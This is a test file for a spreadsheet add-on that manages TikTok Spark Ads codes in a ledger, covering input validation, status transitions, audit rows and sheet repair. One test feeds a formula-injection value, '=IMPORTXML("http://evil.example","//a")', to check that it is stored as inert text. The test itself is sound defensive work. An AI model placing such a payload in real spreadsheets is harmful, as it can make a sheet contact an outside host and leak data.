import { type Harness, startAddon } from '../support/addon';
import { activationFields, requestInput, seedSettings, sparkCode, videoUrl } from '../support/fixtures';
import { fillLedger, receivedRecord } from '../support/ledgerFill';

function setup(): Harness {
  const h = startAddon();
  seedSettings(h.emu);
  return h;
}

function ledgerValues(h: Harness): unknown[][] {
  return h.emu.spreadsheet.getSheetByName('Ledger')!.getDataRange().getValues();
}

function auditValues(h: Harness): unknown[][] {
  return h.emu.spreadsheet.getSheetByName('Audit')!.getDataRange().getValues();
}

function cell(h: Harness, row: number, header: string): unknown {
  const values = ledgerValues(h);
  return values[row - 1][values[0].indexOf(header)];
}

describe('requestCode', () => {
  it('stores a 19-digit id, a Spark code, a handle and formula-looking text exactly', () => {
    const h = setup();
    const url = 'https://www.tiktok.com/@creator.one/video/7412345678901234567';
    const tricky = {
      usageNotes: '=IMPORTXML("http://evil.example","//a")',
      contract: '+44 20 7946 0000',
      excludedCategories: '-alcohol',
      campaign: '0012',
    };
    const r = h.addon.requestCode(requestInput(0, { videoUrl: url, ...tricky }));
    expect(r.ok).toBe(true);
    expect(cell(h, 2, 'Video ID')).toBe('7412345678901234567');
    expect(cell(h, 2, 'Video URL')).toBe(url);
    expect(cell(h, 2, 'Creator handle')).toBe('@creator.one');
    expect(cell(h, 2, 'Usage notes')).toBe(tricky.usageNotes);
    expect(cell(h, 2, 'Contract')).toBe(tricky.contract);
    expect(cell(h, 2, 'Excluded categories')).toBe(tricky.excludedCategories);
    expect(cell(h, 2, 'Campaign')).toBe('0012');
    const sheet = h.emu.spreadsheet.getSheetByName('Ledger')!;
    expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);

    const code = '#+tDYPaG3Bqpz5XP1c7sFD6Bik0zk2qQbJPZy/Gp6y39SN3=';
    expect(h.addon.recordCode({ videoUrl: url, sparkCode: code, authorizedOn: '2026-03-01', authDays: 7 }).ok).toBe(
      true,
    );
    expect(cell(h, 2, 'Spark code')).toBe(code);
    const rec = h.addon.getRecord(url);
    expect(rec).toMatchObject({
      videoId: '7412345678901234567',
      sparkCode: code,
      creatorHandle: '@creator.one',
      ...tricky,
      authorizedOn: '2026-03-01',
      expiresOn: '2026-03-08',
    });
  });

  it('refuses bad input with every error at once and writes nothing', () => {
    const h = setup();
    const before = JSON.stringify(h.emu.toJSON());
    h.emu.calls.reset();
    const r = h.addon.requestCode(
      requestInput(0, {
        videoUrl: 'https://www.tiktok.com/@creator.one/video/abc',
        creatorHandle: 'x',
        client: 'Unknown Co',
        requestedDays: 0,
        approvalOwner: 'nobody',
        preRequestChecks: ['Post is live'],
      }),
    );
    expect(r.ok).toBe(false);
    expect(r.errors.map((e: { field: string }) => e.field).sort()).toEqual([
      'approvalOwner',
      'client',
      'creatorHandle',
      'preRequestChecks',
      'requestedDays',
      'videoUrl',
    ]);
    expect(h.emu.calls.count('Range.setValues')).toBe(0);
    expect(JSON.stringify(h.emu.toJSON())).toBe(before);
  });

  it('refuses a handle that does not match the URL', () => {
    const h = setup();
    const r = h.addon.requestCode(requestInput(0, { creatorHandle: '@someone.else' }));
    expect(r).toEqual({
      ok: false,
      errors: [{ field: 'creatorHandle', message: expect.stringContaining('does not match') }],
    });
  });

  it('refuses a duplicate video or code, naming the row that has it', () => {
    const h = setup();
    expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
    expect(h.addon.requestCode(requestInput(2)).ok).toBe(true);
    const dup = h.addon.requestCode(
      requestInput(3, { videoUrl: `${videoUrl(2).toUpperCase().replace('HTTPS://WWW.TIKTOK.COM', 'tiktok.com')}?x=1` }),
    );
    expect(dup.ok).toBe(false);
    expect(dup.errors[0]).toEqual({ field: 'videoUrl', message: expect.stringContaining('row 3') });
    expect(
      h.addon.recordCode({ videoUrl: videoUrl(1), sparkCode: sparkCode(9), authorizedOn: '2026-03-01', authDays: 30 })
        .ok,
    ).toBe(true);
    const code = h.addon.recordCode({
      videoUrl: videoUrl(2),
      sparkCode: sparkCode(9),
      authorizedOn: '2026-03-01',
      authDays: 30,
    });
    expect(code).toEqual({ ok: false, errors: [{ field: 'sparkCode', message: expect.stringContaining('row 2') }] });
  });

  it('audits each field it wrote, with who and via', () => {
    const h = setup();
    h.addon.requestCode(requestInput(1));
    const audit = auditValues(h);
    const fields = audit.slice(1).map((r) => r[3]);
    expect(fields).toEqual(expect.arrayContaining(['Video URL', 'Status', 'Client', 'Pre-request checks']));
    expect(audit[1][1]).toBe('am@agency.example');
    expect(audit.slice(1).every((r) => r[6] === 'sidebar')).toBe(true);
  });

  it('makes the same number of service calls on 10 rows as on 10,000', () => {
    const counts: number[] = [];
    for (const n of [10, 10000]) {
      const h = setup();
      fillLedger(
        h.emu,
        Array.from({ length: n }, (_, i) => receivedRecord(i + 100)),
      );
      h.emu.calls.reset();
      expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
      counts.push(h.emu.calls.total);
    }
    expect(counts[1]).toBe(counts[0]);
  });

  it('grows a full sheet in one step of at least 500 rows', () => {
    const h = setup();
    fillLedger(
      h.emu,
      Array.from({ length: 20 }, (_, i) => receivedRecord(i + 100)),
      0,
    );
    const sheet = h.emu.spreadsheet.getSheetByName('Ledger')!;
    sheet.deleteRows(sheet.getLastRow() + 1, sheet.getMaxRows() - sheet.getLastRow());
    expect(sheet.getMaxRows()).toBe(sheet.getLastRow());
    h.emu.calls.reset();
    expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
    expect(h.emu.calls.count('Sheet.insertRowsAfter')).toBe(1);
    expect(sheet.getMaxRows()).toBeGreaterThanOrEqual(sheet.getLastRow() + 499);
    h.emu.calls.reset();
    expect(h.addon.requestCode(requestInput(2)).ok).toBe(true);
    expect(h.emu.calls.count('Sheet.insertRowsAfter')).toBe(0);
  });
});

describe('lifecycle through the sheet', () => {
  it('refuses an illegal transition and writes nothing', () => {
    const h = setup();
    h.addon.requestCode(requestInput(1));
    h.emu.calls.reset();
    const r = h.addon.changeStatus({ videoUrl: videoUrl(1), status: 'Spending', spendStart: '2026-03-01' });
    expect(r.ok).toBe(false);
    expect(r.errors[0]).toEqual({
      field: 'status',
      message: 'A row in Requested cannot move to Spending: it can move to Received, Retired.',
    });
    expect(h.emu.calls.count('Range.setValues')).toBe(0);
    expect(cell(h, 2, 'Status')).toBe('Requested');
  });

  it('walks Requested → Received → Activated → Spending → Retired', () => {
    const h = setup();
    const url = videoUrl(1);
    expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
    expect(
      h.addon.recordCode({ videoUrl: url, sparkCode: sparkCode(1), authorizedOn: '2026-03-01', authDays: 30 }).ok,
    ).toBe(true);
    const act = h.addon.changeStatus({ videoUrl: url, status: 'Activated' });
    expect(act.ok).toBe(false);
    expect(act.errors.map((e: { field: string }) => e.field)).toEqual([
      'objective',
      'paidOwner',
      'creatorOwner',
      'language',
      'currency',
      'landingPage',
    ]);
    expect(h.addon.changeStatus({ videoUrl: url, status: 'Activated', ...activationFields() }).ok).toBe(true);
    expect(h.addon.changeStatus({ videoUrl: url, status: 'Spending', spendStart: '2026-03-02' }).ok).toBe(true);
    const done = h.addon.changeStatus({
      videoUrl: url,
      status: 'Retired',
      retirementReason: 'Other',
      decisionNote: 'Client paused the brand',
    });
    expect(done).toMatchObject({
      ok: true,
      record: { status: 'Retired', renewalDecision: 'Retire', spendStart: '2026-03-02', row: 2 },
    });
    expect(cell(h, 2, 'Status')).toBe('Retired');
    expect(h.addon.changeStatus({ videoUrl: url, status: 'Spending' }).errors[0].message).toMatch(/Retired is final/);
  });

  it('keeps a user column inserted in the middle untouched by every action', () => {
    const h = setup();
    const sheet = h.emu.spreadsheet.getSheetByName('Ledger')!;
    sheet.insertColumnsAfter(5, 1);
    // The agency gives its own column the automatic format (a new column inherits its neighbour's).
    sheet.getRange(1, 6, sheet.getMaxRows(), 1).setNumberFormat('0.###############');
    sheet.getRange(1, 6).setValue('Agency notes');
    sheet.getRange(2, 6).setValue('keep me');
    sheet.getRange(3, 6).setFormula('=1+1');
    const url = videoUrl(1);
    expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
    expect(
      h.addon.recordCode({ videoUrl: url, sparkCode: sparkCode(1), authorizedOn: '2026-03-01', authDays: 30 }).ok,
    ).toBe(true);
    expect(h.addon.changeStatus({ videoUrl: url, status: 'Activated', ...activationFields() }).ok).toBe(true);
    expect(h.addon.updateRecord({ videoUrl: url, spend: 120.5, usageNotes: 'US only' }).ok).toBe(true);
    expect(h.addon.changeStatus({ videoUrl: url, status: 'Retired', retirementReason: 'Campaign ended' }).ok).toBe(
      true,
    );
    expect(h.addon.setupLedger()).toEqual({ created: [], repaired: [] });
    expect(sheet.getRange(1, 6).getValue()).toBe('Agency notes');
    expect(sheet.getRange(2, 6).getValue()).toBe('keep me');
    expect(sheet.getRange(3, 6).getFormula()).toBe('=1+1');
    expect(h.addon.getRecord(url)).toMatchObject({
      status: 'Retired',
      spend: 120.5,
      usageNotes: 'US only',
      client: 'Northwind Foods',
    });
  });
});

describe('setupLedger', () => {
  it('creates the sheets once; running it again changes nothing', () => {
    const { emu, addon } = startAddon({ setup: false });
    const first = addon.setupLedger();
    expect(first.created.sort()).toEqual(['Audit', 'Code history', 'Ledger', 'Settings']);
    const snapshot = JSON.stringify(emu.toJSON());
    expect(addon.setupLedger()).toEqual({ created: [], repaired: [] });
    expect(JSON.stringify(emu.toJSON())).toBe(snapshot);
    const ledger = emu.spreadsheet.getSheetByName('Ledger')!;
    expect(ledger.getFrozenRows()).toBe(1);
    expect(
      emu.spreadsheet
        .getSheetByName('Settings')!
        .getDataRange()
        .getValues()
        .map((r) => r[4])
        .slice(1, 21),
    ).toEqual([
      'US',
      'GB',
      'AU',
      'BR',
      'CA',
      'CO',
      'FI',
      'FR',
      'DE',
      'ID',
      'IT',
      'JP',
      'MY',
      'MX',
      'PK',
      'PH',
      'PT',
      'RO',
      'ES',
      'CH',
    ]);
    expect(
      emu.spreadsheet
        .getSheetByName('Audit')!
        .getProtections(
          emu.globals.SpreadsheetApp ? (emu.globals.SpreadsheetApp as any).ProtectionType.SHEET : 'SHEET',
        )[0]
        .isWarningOnly(),
    ).toBe(true);
  });

  it('puts dropdowns on enumerated columns and the automatic format (never plain text) on text columns', () => {
    const { emu } = startAddon();
    const ledger = emu.spreadsheet.getSheetByName('Ledger')!;
    const header = ledger.getRange(1, 1, 1, ledger.getLastColumn()).getValues()[0];
    const col = (h: string) => header.indexOf(h) + 1;
    const status = ledger.getRange(2, col('Status')).getDataValidation()!;
    expect(status.getCriteriaValues()[0]).toEqual([
      'Requested',
      'Received',
      'Activated',
      'Spending',
      'Paused',
      'Renewal needed',
      'Expired',
      'Retired',
    ]);
    expect(status.getHelpText()).toMatch(/transitions/);
    expect(ledger.getRange(2, col('Video ID')).getNumberFormat()).toBe('0.###############');
    expect(ledger.getRange(2, col('Spark code')).getNumberFormat()).toBe('0.###############');
    expect(ledger.getRange(2, col('Expires on')).getNumberFormat()).toBe('yyyy-mm-dd');
    expect(ledger.getConditionalFormatRules()).toHaveLength(2);
  });

  it('repairs a ledger whose columns were moved and one deleted, keeping the data where it is', () => {
    const h = setup();
    h.addon.requestCode(requestInput(1));
    const sheet = h.emu.spreadsheet.getSheetByName('Ledger')!;
    // Move Client to the front by hand: insert a column, copy, delete the old one.
    const header = () => sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const clientCol = header().indexOf('Client') + 1;
    const values = sheet.getRange(1, clientCol, 2, 1).getValues();
    sheet.insertColumnsBefore(1, 1);
    sheet.getRange(1, 1, 2, 1).setValues(values);
    sheet.deleteColumns(clientCol + 1, 1);
    sheet.deleteColumns(header().indexOf('Comments') + 1, 1);
    const r = h.addon.setupLedger();
    expect(r.repaired).toEqual(['Ledger: added columns Comments']);
    expect(header()[0]).toBe('Client');
    expect(header()[header().length - 1]).toBe('Comments');
    expect(h.addon.getRecord(videoUrl(1))).toMatchObject({ client: 'Northwind Foods', status: 'Requested' });
    expect(
      h.addon.changeStatus({ videoUrl: videoUrl(1), status: 'Retired', retirementReason: 'Creator request' }).ok,
    ).toBe(true);
    expect(sheet.getRange(2, 1).getValue()).toBe('Northwind Foods');
  });
});
